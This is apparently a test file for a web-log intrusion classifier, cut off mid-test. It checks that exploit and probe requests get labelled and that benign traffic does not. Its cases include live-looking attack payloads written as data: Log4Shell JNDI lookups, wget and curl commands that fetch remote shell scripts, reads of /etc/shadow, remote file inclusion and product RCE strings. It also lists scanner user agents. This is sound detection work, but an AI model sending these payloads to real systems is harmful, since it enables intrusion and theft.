import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { BUILTIN_RULES, CATEGORY_INFO } from '../../../lambdas/core/rules/builtin.js';
import { Classifier, MAX_DECODE_PASSES, MAX_DECOY_EXTENSIONS, MAX_NAME_PARTS, MAX_THRESHOLD_SECONDS, decodeFully } from '../../../lambdas/core/rules/engine.js';
import { EXPLOITED_PRODUCTS } from '../../../lambdas/core/rules/exploited-products.js';
import { SCANNER_MARKERS, SCANNER_TOOLS } from '../../../lambdas/core/rules/scanner-tools.js';
import type { Rule } from '../../../lambdas/core/rules/types.js';
import { scanLines } from '../../support/detector.js';
import { record, timeAt } from '../../support/records.js';

const classifier = new Classifier(BUILTIN_RULES);
type Input = Parameters<typeof record>[0];
const categories = (input: Input) =>
  classifier
    .classify(record(input))
    .labels.map((l) => l.category)
    .sort();

/** [name, request, expected category, alerts on its own] */
type Case = [name: string, input: Input, category: string, immediate: boolean];

const exploits: Case[] = [
  ['Log4Shell via ${dns:} in X-Forwarded-For-like referer', { request: 'GET / HTTP/1.1', referer: '${dns:${hostName}.c9q2.example.net}' }, 'log4shell', true],
  [
    'Log4Shell double-encoded in the query',
    { request: 'GET /search?q=%2524%257Bjndi:ldap://198.51.100.20:1389/Exploit%257D HTTP/1.1', status: 400 },
    'log4shell',
    true,
  ],
  ['Log4Shell with an encoded capital', { request: 'GET /?x=$%7B%4ANDI:ldap://198.51.100.20/a%7D HTTP/1.1' }, 'log4shell', true],
  ['Log4Shell ${ldap:} lookup in the user agent', { request: 'GET / HTTP/1.1', ua: '${ldap://198.51.100.20:1389/a}' }, 'log4shell', true],
  [
    'Text4Shell',
    { request: 'GET /lookup?name=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27touch%20%2Ftmp%2Fx%27)%7D HTTP/1.1' },
    'text4shell',
    true,
  ],
  [
    'Spring4Shell',
    { request: 'GET /app?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp HTTP/1.1', status: 400 },
    'rce-probe',
    true,
  ],
  [
    'shell substitution $(…)',
    { request: 'GET /cgi-bin/diag?host=127.0.0.1%3B%24(wget%20http%3A%2F%2F198.51.100.9%2Fx.sh) HTTP/1.1', status: 404 },
    'command-injection',
    true,
  ],
  ['shell ${IFS}', { request: 'GET /api/ping?ip=1.1.1.1;cat${IFS}/etc/shadow HTTP/1.1', status: 404 }, 'command-injection', true],
  ['backticks', { request: 'GET /status?dev=`id` HTTP/1.1', status: 404 }, 'command-injection', true],
  ['PHP code in a parameter', { request: 'GET /index.php?lang=%3C%3Fphp%20echo%20md5(1)%3B%3F%3E HTTP/1.1' }, 'command-injection', true],
  ['php:// wrapper', { request: 'GET /index.php?page=php://filter/read=convert.base64-encode/resource=config HTTP/1.1' }, 'file-inclusion', true],
  ['expect:// wrapper', { request: 'GET /index.php?file=expect%3A%2F%2Fid HTTP/1.1' }, 'file-inclusion', true],
  ['data:// wrapper', { request: 'GET /?inc=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg== HTTP/1.1' }, 'file-inclusion', true],
  // A text file on a bare IP address, cut off by `?`, in an include parameter: an exploit on its own.
  ['remote file inclusion', { request: 'GET /index.php?page=http://198.51.100.9/shell.txt? HTTP/1.1', status: 404 }, 'file-inclusion', true],
  [
    'remote file inclusion of a named host',
    { request: 'GET /index.php?page=http://bad.example.net/shell.txt? HTTP/1.1', status: 404 },
    'file-inclusion',
    false,
  ],
  ['/proc/self/environ', { request: 'GET /index.php?view=../../../../proc/self/environ HTTP/1.1' }, 'path-traversal', true],
  ['overlong UTF-8 traversal', { request: 'GET /..%c0%af..%c0%af..%c0%afetc/passwd HTTP/1.1', status: 400 }, 'path-traversal', true],
  ['Tomcat /..;/ bypass', { request: 'GET /app/..;/manager/html HTTP/1.1', status: 404 }, 'path-traversal', true],
  ['CVE-2021-41773 /.%2e/', { request: 'GET /icons/.%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1', status: 400 }, 'path-traversal', true],
  ['%%32%65 double encoding', { request: 'GET /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1', status: 400 }, 'path-traversal', true],
  ['....// traversal', { request: 'GET /download?f=....//....//app/config.ini HTTP/1.1', status: 400 }, 'path-traversal', false],
  ['backslash traversal', { request: 'GET /static/..%5c..%5cweb.config HTTP/1.1', status: 400 }, 'path-traversal', false],
  ['CONNECT to SMTP', { request: 'CONNECT mx.example.net:25 HTTP/1.1', status: 405 }, 'proxy-probe', true],
  ['Code Red', { request: `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`, status: 400 }, 'worm', true],
  ['DFind', { request: 'GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1', status: 400 }, 'worm', true],
  ['Citrix CVE-2023-3519', { request: 'GET /gwtest/formssso?event=start&target=x HTTP/1.1', status: 404 }, 'product-exploit', true],
  [
    'Confluence CVE-2023-22515',
    { request: 'GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1', status: 404 },
    'product-exploit',
    true,
  ],
  ['VMware vCenter CVE-2021-21972', { request: 'GET /ui/vropspluginui/rest/services/uploadova HTTP/1.1', status: 404 }, 'product-exploit', true],
  ['Drupalgeddon 2', { request: 'GET /?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23markup%5D=id HTTP/1.1' }, 'product-exploit', true],
  ['SQL injection with a newline for a space', { request: 'GET /item.php?id=-1%0aunion%0aselect%0a1,2,3 HTTP/1.1', status: 500 }, 'sqli', false],
  ['SQL injection with comments for spaces', { request: 'GET /item.php?id=1)/**/UNION/**/ALL/**/SELECT/**/NULL-- HTTP/1.1' }, 'sqli', false],
  ['double-encoded SQL tautology', { request: 'GET /login.php?user=admin%2527%2520or%2520%25271%2527%253D%25271 HTTP/1.1' }, 'sqli', false],
  ['quoted numeric tautology', { request: 'GET /news?id=5%22)+and+2=2--+- HTTP/1.1' }, 'sqli', false],
  ['double-encoded XSS', { request: 'GET /search?q=%253Csvg%2520onload%253Dalert(1)%253E HTTP/1.1' }, 'xss', false],
  ['XSS through ontoggle', { request: 'GET /p?name=%3Cdetails%20open%20ontoggle=print()%3E HTTP/1.1' }, 'xss', false],
  ['PAN-OS CVE-2024-0012 behind a decoy suffix', { request: 'GET /php/ztp_gate.php/.js.map HTTP/1.1', status: 404 }, 'product-exploit', true],
];

const probes: Case[] = [
  ['backup archive answered by a catch-all redirect', { request: 'GET /backup.zip HTTP/1.1', status: 302 }, 'sensitive-file', false],
  ['site archive, 301', { request: 'GET /site.tar.gz HTTP/1.1', status: 301 }, 'sensitive-file', false],
  ['host-named SQL dump, 403', { request: 'GET /www.example.com.sql HTTP/1.1', status: 403 }, 'sensitive-file', false],
  ['vim swap file', { request: 'GET /.config.php.swp HTTP/1.1', status: 404 }, 'sensitive-file', false],
  ['a missing credentials directory', { request: 'GET /credentials/aws.json HTTP/1.1', status: 404 }, 'sensitive-file', false],
  ['wallet.dat', { request: 'GET /bitcoin/wallet.dat HTTP/1.1', status: 404 }, 'sensitive-file', false],
  ['.env behind a decoy suffix', { request: 'GET /.env.js.map HTTP/1.1', status: 404 }, 'sensitive-file', false],
  ['wp-config behind .css', { request: 'GET /wp-config.php.css HTTP/1.1', status: 404 }, 'sensitive-file', false],
  ['.git with a decoy query', { request: 'GET /.git/config?x=.png HTTP/1.1', status: 404 }, 'sensitive-file', false],
  ['phpMyAdmin behind a redirect', { request: 'GET /phpMyAdmin-5.2.1/ HTTP/1.1', status: 301 }, 'admin-interface-probe', false],
  ['Laravel Telescope', { request: 'GET /telescope/requests HTTP/1.1', status: 404 }, 'admin-interface-probe', false],
  ['WordPress author enumeration', { request: 'GET /?author=2 HTTP/1.1', status: 301 }, 'user-enumeration', false],
  ['PROPFIND refused', { request: 'PROPFIND / HTTP/1.1', status: 405 }, 'webdav-probe', false],
  ['HTTP/1.2', { request: 'GET / HTTP/1.2', status: 400 }, 'malformed-request', false],
  ['HTTP/2.1', { request: 'GET /index.html HTTP/2.1', status: 400 }, 'malformed-request', false],
  ['absolute URI for another host', { request: 'GET http://api.ipify.org/?format=json HTTP/1.1', status: 200 }, 'proxy-probe', false],
  [
    'Googlebot that probes',
    { request: 'GET /.env HTTP/1.1', status: 404, ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
    'sensitive-file',
    false,
  ],
  [
    'a forged monitor from the internet',
    { ip: '198.51.100.77', request: 'GET /.git/HEAD HTTP/1.1', status: 404, ua: 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)' },
    'sensitive-file',
    false,
  ],
  ['Acunetix marker in the query', { request: 'GET /index.php?id=acunetix_wvs_security_test HTTP/1.1', status: 500 }, 'scanner-marker', false],
  ['Interactsh domain in the referer', { request: 'GET / HTTP/1.1', referer: 'http://cf2a7x9qzk.oast.fun/' }, 'scanner-marker', false],
  ['Burp Collaborator in the path', { request: 'GET /img?src=http://abc123.burpcollaborator.net/ HTTP/1.1', status: 404 }, 'scanner-marker', false],
  ['ffuf', { request: 'GET /FUZZ HTTP/1.1', status: 404, ua: 'Fuzz Faster U Fool v2.1.0-dev' }, 'scanner-user-agent', false],
  ['feroxbuster', { request: 'GET /admin.bak HTTP/1.1', status: 404, ua: 'feroxbuster/2.10.1' }, 'scanner-user-agent', false],
  ['Hydra', { request: 'GET /admin/ HTTP/1.1', status: 401, ua: 'Mozilla/4.0 (Hydra)' }, 'scanner-user-agent', false],
];

const benign: [name: string, input: Input][] = [
  ['a login redirect naming a sensitive word', { request: 'GET /login?came_from=/credentials HTTP/1.1', status: 200 }],
  ['an application page named credentials', { request: 'GET /settings/credentials HTTP/1.1', status: 200 }],
  ['a missing login page whose redirect names the sign-up page', { request: 'GET /account/login?came_from=/register HTTP/1.1', status: 404 }],
  ['a page whose name contains a sensitive word', { request: 'GET /blog/secrets-of-sourdough HTTP/1.1', status: 404 }],
  ['a search for a backup article', { request: 'GET /blog/2019/backup-strategies HTTP/1.1', status: 404 }],
  ['a deep download that moved', { request: 'GET /projects/chat/chat-1.2.tar.gz HTTP/1.1', status: 301 }],
  ['a redirect parameter with a URL', { request: 'GET /login?next=https://www.example.com/account HTTP/1.1', status: 302 }],
  ['a jQuery question in a search box', { request: 'GET /search?q=%24(document).ready+not+firing HTTP/1.1' }],
  ['a PROPFIND a WebDAV share answered', { request: 'PROPFIND /remote.php/dav/files/alice/ HTTP/1.1', status: 207 }],
  ['HTTP/2.0 from a CDN', { request: 'GET / HTTP/2.0', status: 200 }],
  ['a feed flavour', { request: 'GET /?flav=rss20 HTTP/1.1', status: 200 }],
  ['a page number', { request: 'GET /?page=2 HTTP/1.1', status: 200 }],
  ['a search with a quote and a number', { request: "GET /search?q=o'reilly+or+2+books HTTP/1.1", status: 200 }],
  ['a monitor from inside on a missing path', { ip: '10.0.3.4', request: 'GET /status/health.php HTTP/1.1', status: 404, ua: 'Zabbix' }],
];

describe('rules for real traffic: exploits and probes', () => {
  for (const [name, input, category, immediate] of [...exploits, ...probes]) {
    it(`labels ${name} as ${category}${immediate ? ', alerting at once' : ''}`, () => {
      const c = classifier.classify(record(input));
      assert.ok(
        c.labels.some((l) => l.category === category),
        `got ${c.labels.map((l) => l.category).join(', ') || 'nothing'}`,
      );
      assert.equal(c.immediate !== null, immediate, `immediate: ${c.immediate?.rule.id ?? 'none'}`);
    });
  }
  for (const [name, input] of benign) {
    it(`leaves alone: ${name}`, () => {
      const c = classifier.classify(record(input));
      assert.deepEqual(
        c.labels.filter((l) => l.rule.class !== 'benign').map((l) => l.rule.id),
        [],
      );
    });
  }

  it('the site-own absolute URI is a probe only when the logged Host differs', () => {
    const line = (host: string) => `203.0.113.9 - - [${timeAt(0)}] "GET http://www.example.com/ HTTP/1.1" 200 10 "-" "curl/8.5.0" ${host}`;
    const format = 'apache:%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i" %{Host}i';
    const own = scanLines({ a: [line('www.example.com')] }, {}, { format }).report;
    const other = scanLines({ a: [line('shop.example.org')] }, {}, { format }).report;
    assert.deepEqual(own.sources, []);
    assert.deepEqual(Object.keys(other.sources[0]?.labels ?? {}), ['proxy-probe']);
  });
});

describe('remote file inclusion on any parameter', () => {
  const fileInclusion = (request: string) =>
    classifier
      .classify(record({ request, status: 200 }))
      .labels.filter((l) => l.category === 'file-inclusion')
      .map((l) => l.rule.id);
  const attempts: [name: string, request: string][] = [
    ['a page URL cut off by a trailing ?', 'GET /index.php?n=http://203.0.113.80/menu/pizza.htm? HTTP/1.1'],
    ['the same, percent-encoded', 'GET /index.php?n=http%3A%2F%2F203.0.113.80%2Fmenu%2Fpizza.htm%3F HTTP/1.1'],
    ['the same, double-encoded', 'GET /index.php?n=http%253A%252F%252F203.0.113.80%252Fmenu%252Fpizza.htm%253F HTTP/1.1'],
    ['several trailing ? after an image name', 'GET /gallery.php?id=7&skin=http://bad.example.net/x/logo.gif??? HTTP/1.1'],
    ['a NUL byte cutting off the extension', 'GET /main.php?lang=http://bad.example.net/tools/index%00 HTTP/1.1'],
    ['a text-file payload with a command after it', 'GET /modules.php?name=http://bad.example.net/id.txt?&cmd=id HTTP/1.1'],
    ['a text-file payload over FTP, no trailing ?', 'GET /x.php?q=ftp://198.51.100.9/r57.txt HTTP/1.1'],
    ['an HTTPS text-file payload in a second parameter', 'GET /?a=1&b=HTTPS://bad.example.net/shell.TXT? HTTP/1.1'],
  ];
  for (const [name, request] of attempts) {
    it(`labels ${name} as file inclusion`, () => {
      assert.deepEqual(fileInclusion(request), ['remote-file-inclusion-any-parameter'], request);
    });
  }

  it('keeps the known include parameters, whatever the URL looks like', () => {
    assert.deepEqual(fileInclusion('GET /index.php?page=https://bad.example.net/a HTTP/1.1'), ['remote-file-inclusion']);
  });

  it('a known include parameter naming a script on a public IP address is an exploit on its own (alerts at once)', () => {
    const at = (request: string) => classifier.classify(record({ request, status: 200 }));
    for (const request of [
      'GET /index.php?page=http://203.0.113.50/sh.txt? HTTP/1.1',
      'GET /index.php?file=ftp://198.51.100.9:21/r57.txt HTTP/1.1',
      'GET /main.php?include=http%3A%2F%2F192.0.2.44%2Fbot.txt%3F HTTP/1.1',
      'GET /index.php?inc=http://192.0.2.44/x.php%00 HTTP/1.1',
      'GET /index.php?page=http://x@203.0.113.50/sh.txt? HTTP/1.1',
      'GET /index.php?page=http://203.0.113.50?? HTTP/1.1',
      'GET /index.php?page[]=HTTP://203.0.113.50/SH.TXT?&cmd=id HTTP/1.1',
    ]) {
      const c = at(request);
      assert.ok(
        c.labels.some((l) => l.rule.id === 'remote-file-inclusion-ip'),
        `${request}: ${c.labels.map((l) => l.rule.id)}`,
      );
      assert.equal(c.immediate?.rule.id, 'remote-file-inclusion-ip', request);
    }
    for (const request of [
      'GET /index.php?page=https://www.example.com/about HTTP/1.1',
      'GET /index.php?page=http://203.0.113.5/ HTTP/1.1',
      'GET /index.php?page=http://203.0.113.5.example.com/a.txt? HTTP/1.1',
      'GET /pdfjs/web/viewer.html?file=http://203.0.113.10/docs/report.pdf HTTP/1.1',
      'GET /logs.php?file=http://10.0.0.5/logs/app.txt? HTTP/1.1',
      'GET /viewer?doc=http://192.168.1.20/README.txt? HTTP/1.1',
      'GET /viewer?doc=http://203.0.113.20/README.txt HTTP/1.1',
    ]) {
      assert.equal(at(request).immediate, null, request);
    }
  });

  it('an include from any public IPv4 address alerts at once, from a private, loopback or link-local one never', () => {
    const isPublic = (a: number, b: number) =>
      !(a === 0 || a === 10 || a === 127 || a >= 224 || (a === 169 && b === 254) || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168));
    const octet = fc.integer({ min: 0, max: 255 });
    fc.assert(
      fc.property(octet, octet, octet, octet, (a, b, c, d) => {
        const r = classifier.classify(record({ request: `GET /index.php?page=http://${a}.${b}.${c}.${d}/x.txt? HTTP/1.1`, status: 404 }));
        assert.equal(r.immediate?.rule.id === 'remote-file-inclusion-ip', isPublic(a, b), `${a}.${b}.${c}.${d}`);
      }),
      { numRuns: 2000 },
    );
    for (const [a, b] of [
      [10, 1],
      [127, 0],
      [169, 254],
      [172, 16],
      [172, 31],
      [192, 168],
      [169, 253],
      [172, 15],
      [172, 32],
      [192, 167],
      [126, 9],
      [128, 9],
      [223, 1],
      [224, 1],
    ]) {
      const r = classifier.classify(record({ request: `GET /index.php?page=http://${a}.${b}.7.7/x.txt? HTTP/1.1`, status: 404 }));
      assert.equal(r.immediate?.rule.id === 'remote-file-inclusion-ip', isPublic(a as number, b as number), `${a}.${b}.7.7`);
    }
  });

  const redirects: [name: string, request: string][] = [
    ['a login redirect', 'GET /login?next=https://www.example.com/account/settings HTTP/1.1'],
    ['a redirect to a page', 'GET /out.php?url=https://partner.example.org/offers/summer.html HTTP/1.1'],
    ['a link with its own query', 'GET /go.php?url=http://www.example.com/view.php?id=12&ref=mail HTTP/1.1'],
    [
      'an OAuth authorisation request',
      'GET /oauth/authorize?response_type=code&client_id=app&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fstate%3Dxyz&scope=openid HTTP/1.1',
    ],
    ['a return URL to the site root', 'GET /logout?return=https://www.example.com/ HTTP/1.1'],
    ['a return URL that ends in a bare ? with no file name', 'GET /cart?return=https://shop.example.com/cart? HTTP/1.1'],
    ['WordPress redirect_to', 'GET /wp-login.php?redirect_to=https%3A%2F%2Fblog.example.com%2Fwp-admin%2F&reauth=1 HTTP/1.1'],
    ['a share link to a PDF', 'GET /share?u=https://www.example.com/files/report-2024.pdf HTTP/1.1'],
    ['an SEO check of robots.txt', 'GET /seo/check?url=https://www.example.com/robots.txt HTTP/1.1'],
    ['an ads.txt check', 'GET /seo/check?url=https%3A%2F%2Fwww.example.com%2Fads.txt HTTP/1.1'],
    [
      'an analytics beacon for a page left with an empty form query',
      'GET /matomo.php?idsite=1&rec=1&url=https%3A%2F%2Fwww.example.com%2Fsearch.php%3F HTTP/1.1',
    ],
  ];
  for (const [name, request] of redirects) {
    it(`leaves alone ${name}`, () => {
      const c = classifier.classify(record({ request, status: 302 }));
      assert.deepEqual(
        c.labels.filter((l) => l.rule.class !== 'benign').map((l) => l.rule.id),
        [],
        request,
      );
    });
  }

  it('a source that tries one on a PHP page is labelled and suspicious, not just an old browser', () => {
    const ua = 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; .NET CLR 1.1.4322)';
    const { report } = scanLines({
      a: [`203.0.113.81 - - [${timeAt(0)}] "GET /index.php?n=http://203.0.113.80/menu/pizza.htm? HTTP/1.1" 200 114 "-" "${ua}"`],
    });
    const src = report.sources.find((s) => s.source === '203.0.113.81');
    assert.ok(src?.labels['file-inclusion'], JSON.stringify(src?.labels));
    assert.equal(src.severity, 'high');
  });
});

describe('exploit requests of products in the catalog of exploited vulnerabilities', () => {
  const ruleIds = (request: string, status: number) => classifier.requestRuleIds(record({ request, status }));
  const GEOSERVER_RCE = "exec(java.lang.Runtime.getRuntime(),'curl+203.0.113.7/x.sh')";
  const EPMM_EL = "%24%7B''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')%7D";
  /** [rule id, request lines as attackers send them] */
  const attacks: [id: string, requests: string[]][] = [
    [
      'exploited-geoserver',
      [
        `GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=${GEOSERVER_RCE} HTTP/1.1`,
        'GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=topp:states&valueReference=exec%28java.lang.Runtime.getRuntime%28%29%2C%27id%27%29 HTTP/1.1',
        `GET /geoserver/topp/ows?service=WFS&version=1.0.0&request=GetFeature&typeName=topp:states&propertyName=${GEOSERVER_RCE} HTTP/1.1`,
        'GET /wfs?request=GetPropertyValue&service=WFS&version=2.0.0&typeNames=a:b&ValueReference=exec(java.lang.Runtime.getRuntime(),%22touch%20/tmp/x%22) HTTP/1.1',
      ],
    ],
    [
      'exploited-ivanti-epmm',
      [
        'GET /mifs/aad/api/v2/admins/users HTTP/1.1',
        'GET /mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1 HTTP/1.1',
        'GET /mifs/asfV3/api/v2/admins/users HTTP/1.1',
        'GET /mifs/%61ad/api/v2/admins/users HTTP/1.1',
      ],
    ],
    [
      'exploited-ivanti-epmm-injection',
      [
        `GET /mifs/rs/api/v2/featureusage?format=${EPMM_EL} HTTP/1.1`,
        `GET /api/v2/featureusage_history?adminDeviceSpaceId=131&format=${EPMM_EL} HTTP/1.1`,
        'GET /api/v2/featureusage?adminDeviceSpaceId=131&format=%24%7b3*333%7d HTTP/1.1',
        'GET /api/v2/featureusage?format=${7*7}&adminDeviceSpaceId=1 HTTP/1.1',
        'GET /mifs/rs/api/v2/featureusage?format=%2524%257b7*7%257d HTTP/1.1',
      ],
    ],
    [
      'exploited-crushftp-injection',
      [
        'POST /WebInterface/function/?command=zip&c2f=Ab1Z&path=<INCLUDE>/etc/passwd</INCLUDE>&names=/bbb HTTP/1.1',
        'POST /WebInterface/function/?command=zip&c2f=Ab1Z&path=%3CINCLUDE%3Eusers/MainUsers/groups.XML%3C/INCLUDE%3E&names=/ HTTP/1.1',
        'POST /WebInterface/function/?command=zip&c2f=Ab1Z&path={working_dir}&names=/a HTTP/1.1',
        'GET /WebInterface/function/?c2f=Ab1Z&command=zip&names=/&path=%7Buser_name%7Dpassword HTTP/1.1',
        'POST /WebInterface/function?command=zip&path=%3cinclude%3e..%2f..%2fsessions.obj%3c%2finclude%3e&c2f=Ab1Z&names=/a HTTP/1.1',
      ],
    ],
    [
      'exploited-php-cgi',
      [
        'POST /php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
        'POST /index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
        'POST /test.hello?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp%3A%2F%2Finput HTTP/1.1',
        // The soft hyphen as a byte, which a server's log writes as `\xAD`.
        'POST /index.php?\\xADd+allow_url_include%3d1+\\xADd+auto_prepend_file%3dphp://input HTTP/1.1',
        'POST /index.php?%25ADd+allow_url_include%253d1+%25ADd+auto_prepend_file%253dphp://input HTTP/1.1',
        // CVE-2012-1823 as botnets send it, every character encoded.
        'POST /cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74+%2D%6E HTTP/1.1',
        'POST /index.php?-dallow_url_include%3d1+-dauto_prepend_file%3dphp://input HTTP/1.1',
        'POST /cgi-bin/php5?-d+auto_prepend_file%3d/etc/passwd+-n HTTP/1.1',
      ],
    ],
    [
      'exploited-check-point',
      ['POST /clients/MyCRL HTTP/1.1', 'POST /clients/MyCRL HTTP/1.0', 'POST /clients/My%43RL HTTP/1.1', 'POST /CLIENTS/MYCRL HTTP/1.1'],
    ],
  ];
  for (const [id, requests] of attacks) {
    for (const request of requests) {
      it(`${id}: ${request}`, () => {
        for (const status of [200, 400, 404]) {
          const r = record({ request, status });
          const ids = classifier.requestRuleIds(r);
          assert.ok(ids.includes(id), `${status}: ${ids.join(', ')}`);
          assert.deepEqual(ids, classifier.requestRuleIdsExhaustive(r));
          assert.notEqual(classifier.classify(r).immediate, null);
        }
      });
    }
  }

  /** The products' own pages and other requests close to the exploits: [name, request, status]. */
  const nearMisses: [name: string, request: string, status: number][] = [
    [
      'a GeoServer WMS GetMap',
      'GET /geoserver/wms?SERVICE=WMS&VERSION=1.1.1&REQUEST=GetMap&FORMAT=image%2Fpng&TRANSPARENT=true&LAYERS=topp%3Astates&STYLES=&SRS=EPSG%3A4326&WIDTH=768&HEIGHT=330&BBOX=-124.73%2C24.96%2C-66.97%2C49.37 HTTP/1.1',
      200,
    ],
    [
      'a GeoServer GetPropertyValue of a property',
      'GET /geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=topp:states&valueReference=STATE_NAME HTTP/1.1',
      200,
    ],
    [
      'a GeoServer GetFeature of two properties',
      'GET /geoserver/ows?service=WFS&version=1.1.0&request=GetFeature&typeName=topp:states&propertyName=STATE_NAME,PERSONS&maxFeatures=10&outputFormat=application/json HTTP/1.1',
      200,
    ],
    ['the EPMM portal reading feature usage', 'GET /api/v2/featureusage?adminDeviceSpaceId=1&format=csv HTTP/1.1', 200],
    ['the EPMM portal reading feature usage history', 'GET /api/v2/featureusage_history?adminDeviceSpaceId=1&format=json HTTP/1.1', 200],
    ['the CrushFTP login page', 'GET /WebInterface/login.html HTTP/1.1', 200],
    ['a CrushFTP listing', 'POST /WebInterface/function/?command=getXMLListing&format=JSONOBJ&path=%2Fdocs%2F&random=0.53&c2f=Ab1Z HTTP/1.1', 200],
    // The same template in a POST body: the log keeps the endpoint alone.
    ['a CrushFTP function with its parameters in the body', 'POST /WebInterface/function/ HTTP/1.1', 200],
    ['a negative id on a PHP page', 'GET /index.php?id=-1 HTTP/1.1', 200],
    ['a PHP download', 'GET /downloads/php-8.3.9-Win32-vs16-x64.zip HTTP/1.1', 200],
    ['the Check Point Mobile Access login page', 'GET /sslvpn/Login/Login HTTP/1.1', 200],
    ['a Check Point Mobile Access login', 'POST /sslvpn/Login/Login HTTP/1.1', 302],
    ['a GET of the CRL endpoint', 'GET /clients/MyCRL HTTP/1.1', 200],
    ['a search that names a PHP setting', 'GET /search?q=should+allow_url_include+be+on HTTP/1.1', 200],
    ['a search that names another', 'GET /docs/search?q=auto_prepend_file%20vs%20include HTTP/1.1', 200],
  ];
  for (const [name, request, status] of nearMisses) {
    it(`leaves alone ${name}`, () => {
      const c = classifier.classify(record({ request, status }));
      assert.deepEqual(
        c.labels.filter((l) => l.rule.class !== 'benign').map((l) => l.rule.id),
        [],
        request,
      );
    });
  }

  it('names no product for a search that only mentions a PHP setting or a template tag', () => {
    for (const request of ['GET /search?q=should+allow_url_include+be+on HTTP/1.1', 'GET /search?q=%3Cinclude%3E+layout+android HTTP/1.1']) {
      assert.ok(!ruleIds(request, 200).some((id) => id.startsWith('exploited-')), request);
    }
  });
});

describe('scanner and attack-tool identities', () => {
  it('every tool, marker and exploited product names a source', () => {
    for (const t of SCANNER_TOOLS) assert.ok(t.references.length > 0 && t.references.every((r) => r.startsWith('http')), t.name);
    for (const m of SCANNER_MARKERS) assert.ok(m.references.length > 0, m.name);
    for (const p of EXPLOITED_PRODUCTS) assert.ok(p.cves.every((c) => /^CVE-\d{4}-\d{4,}$/.test(c)) && p.cves.length > 0, p.id);
  });

  it('every tool the issue names is recognised by its default user agent', () => {
    const agents = [
      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
      'sqlmap/1.8.2#stable (https://sqlmap.org)',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
      'Mozilla/5.0 zgrab/0.x',
      'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
      'Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS',
      'Mozilla/5.0 (compatible; Netsparker)',
      'w3af.org',
      'Arachni/v1.5.1',
      'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)',
      'Nessus SOAP',
      'gobuster/3.6',
      'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
      'Wfuzz/3.1.0',
      'Havij',
      'ZmEu',
      'Morfeus Fucking Scanner',
      'Mozilla/5.0 Jorgee',
    ];
    for (const ua of agents) assert.ok(categories({ request: 'GET / HTTP/1.1', ua }).includes('scanner-user-agent'), ua);
  });

  it('tool evidence carries a threshold of a few requests over a day, whatever the status', () => {
    for (const id of ['scanner-agent', 'scanner-marker']) {
      const rule = BUILTIN_RULES.find((r) => r.id === id);
      assert.deepEqual(rule?.threshold, { count: 3, windowSeconds: 86_400 }, id);
      assert.equal(rule?.match.status, undefined, id);
    }
    const c = classifier.classify(record({ request: 'GET /robots.txt HTTP/1.1', status: 200, ua: 'sqlmap/1.8.2#stable (https://sqlmap.org)' }));
    assert.equal(c.score, 25);
    assert.equal(c.labels[0]?.rule.threshold?.count, 3);
  });

  it('every new category has alert wording', () => {
    for (const r of BUILTIN_RULES) if (r.class !== 'benign') assert.ok(CATEGORY_INFO[r.category], r.category);
  });
});

describe('benign labels explain requests, never sources', () => {
  it('idle connections and missing assets do not cancel the same source’s exploit', () => {
    const ip = '198.51.100.60';
    const lines = [
      ...Array.from({ length: 20 }, (_, i) => `${ip} - - [${timeAt(i)}] "-" 408 0 "-" "-"`),
      ...Array.from({ length: 20 }, (_, i) => `${ip} - - [${timeAt(20 + i)}] "GET /img/a${i}.png HTTP/1.1" 404 0 "-" "Mozilla/5.0"`),
      `${ip} - - [${timeAt(50)}] "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1" 200 10 "-" "Mozilla/5.0"`,
    ];
    const { report } = scanLines({ a: lines });
    assert.equal(report.alerts.length, 1);
    assert.equal(report.alerts[0]?.trigger, 'signature:spring4shell');
  });

  it('a health-check user agent cancels probes only from an internal peer', () => {
    const ua = 'ELB-HealthChecker/2.0';
